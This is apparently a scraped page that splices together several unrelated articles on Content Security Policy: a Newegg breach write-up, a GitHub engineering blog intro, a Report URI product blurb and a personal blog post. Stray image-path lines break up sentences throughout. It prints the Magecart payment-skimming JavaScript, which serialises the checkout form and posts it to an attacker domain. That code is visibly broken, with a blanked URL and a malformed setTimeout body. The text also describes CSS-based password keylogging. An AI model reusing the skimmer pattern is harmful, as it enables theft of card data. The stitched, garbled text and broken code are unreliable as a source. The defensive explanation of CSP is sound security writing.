How a Content Security Policy (CSP) Could Have Protected Newegg

Fifteen lines of code — 15 lines of JavaScript, to be precise — is all it took for Magecart (editor’s note: lol at that name) to capture payment data on Newegg’s billing page before sending it to a domain they registered. Here are those 15 lines:

window.onload = function() {
  jQuery('').bind("mouseup touchend", function(e) {
   var dati = jQuery('#checkout');
   var pdati = JSON.stringify(dati.serializeArray());
   setTimeout(function() {
     type: "POST",
     async: true,
     url: "",
     data: pdati,
     dataType: 'application/json'
   }, 250);

We don’t know how this malicious code was injected on Newegg’s billing page, but we do know how Newegg could have drastically decreased the likelihood of a breach.

Content Security Policy

Content Security Policy (CSP) is a security standard which helps prevent cross-site scripting (XSS), clickjacking, and other code injection attacks resulting from execution of malicious content in a trusted web page context. It’s also supported and enforced by all major web browsers.

Looking at the code above, we can see that Magecart embedded an XHR request to CSP provides space for defining a rule that blocks this type of request by establishing policies to only permit certain types of content from safe sources. When configuring your web servers, make sure they are set to return theContent-Security-Policy HTTP header. For example:

  default-src 'self' *;
  img-src *;
  connect-src 'self'

For this particular breach, connect-src is the critical rule. Again, because we don’t know how the code was actually injected, we can’t be surethat CSP would prevent the injection itself. However, the connect-src directive would have prevented the HTTP request to send the data to somewhere else, especially a sneakily-named domain.

GitHub’s CSP journey

We shipped subresource integrity a few months back to reduce the risk of a compromised CDN serving malicious JavaScript. That is a big win, but does not address related content injection issues that may exist on itself. We have been tackling this side of the problem over the past few years and thought it would be fun, and hopefully useful, to share what we have been up to.

Just to get everyone on the same page, when talking about “content injection” we are talking about:

  • Cross Site Scripting (XSS) – Yup, the most common web vulnerability of the past, present, and foreseeable future. Given its prevalence, many developers are familiar with XSS and the obvious security consequences of allowing injected JavaScript to execute on your site.
  • Scriptless attacks – This is a more nuanced issue and is frequently not considered since people are too busy fending off XSS. But, as has been documented by Michal Zalewski in “Postcards from the post-XSS world”, Mario Heiderich (et al) in “Scriptless Attacks –
    Stealing the Pie Without Touching the Sill”
    , and other related work, preventing XSS does not solve all of your content injection problems.

GitHub uses auto-escaping templates, code review, and static analysis to try to prevent these kinds of bugs from getting introduced in the first place, but history shows they are unavoidable. Any strategy that relies on preventing any and all content injection bugs is bound for failure and will leave your engineers, and security team, constantly fighting fires. We decided that the only practicalapproach is to pair prevention and detection with additional defenses that makecontent injection bugs much more difficult for attackers to exploit. As with most problems, there is no single magical fix, and therefore we have employed multiple techniques to help with mitigation. In this post we will focus on our ever evolving use of Content Security Policy (CSP), as it is our single most effective mitigation. We can’t wait to follow up on this blog to additionally review some of the “non-traditional” approaches we have taken to further mitigate content injection.

Report URI: Content Security Policy, powerful monitoring and protection

With Content Security Policy, and reporting provided byReport URI, you can take full control of resources that are permitted to load on your site. Taking control of where JavaScript can be loaded and executed from is a powerful mitigation for one of the most common forms of attacks seen against web applications, Cross-Site Scripting (XSS).

Whilst the main attraction to CSP is mitigating Cross-Site Scripting attacks, it has a lot more to offer. Here are just a few of the things that you can do with CSP:

  • Detect mixed-content
  • Control where forms can post data
  • Restrict loading of any content type
  • Automatically fix mixed-content
  • Control nested browsing contexts
  • Defend against click-jacking

What is CSP? Why & How to Add it to Your Website.

For example, a common way to steal logins using CSS is by sending a request for a background imageor font to an evil URL such as  where a is the letter you typed into the password login field. When you would type the next letter of your password, the evil CSS script would send another request but with that letter instead of a. The evil site then logs these requests to determine your username & password. By allowing unsafe-inline for our style-src, someone could inject this evil code. Fortunately, their code wouldn’t work since our CSP doesn’t allow img-src & font-src from the evil example site.

You are also not in bad company by doing this. A lot of sites, including GitHub & security professional Troy Hunt’s blog use unsafe-inline. Facebook uses unsafe-eval & even requires it for some of their SDKs. Anyone using Google Tag Manager for analytics willalso have to reduce their CSP security. I mustconfess as well. I use GatsbyJS for my personal blog & there are issues that need tobe fixed before I canremove unsafe-inline.